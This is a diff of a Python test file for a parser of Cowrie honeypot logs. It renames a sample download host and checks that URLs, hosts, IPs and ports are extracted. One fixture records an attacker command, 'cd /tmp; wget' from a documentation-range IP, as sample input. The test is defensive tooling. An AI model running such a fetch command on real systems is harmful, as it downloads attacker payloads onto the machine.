@@ -103,7 +103,7 @@ def test_lines_that_are_no_json_are_rejected_as_ever(tmp_path: Path) -> None:
 
 def test_a_download_and_a_command_name_the_host_they_load_from(tmp_path: Path) -> None:
     command = cowrie("command.input", 2, "a", input="cd /tmp; wget http://198.51.100.7:8080/33")
-    loaded = download(3, "a", "https://files.example.org/x")
+    loaded = download(3, "a", "https://load.example.org/x")
     plain = cowrie("command.input", 4, "a", input="uname -a")
     whole = read(tmp_path, connect(1, "a", 1001), command, loaded, plain)
     names = ("url", "url_scheme", "hostname", "ip", "port", "source", "sha256")
@@ -118,9 +118,9 @@ def test_a_download_and_a_command_name_the_host_they_load_from(tmp_path: Path) -
             None,
         ],
         [
-            "https://files.example.org/x",
+            "https://load.example.org/x",
             "https",
-            "files.example.org",
+            "load.example.org",
             None,
             "443",
             "honeypot",
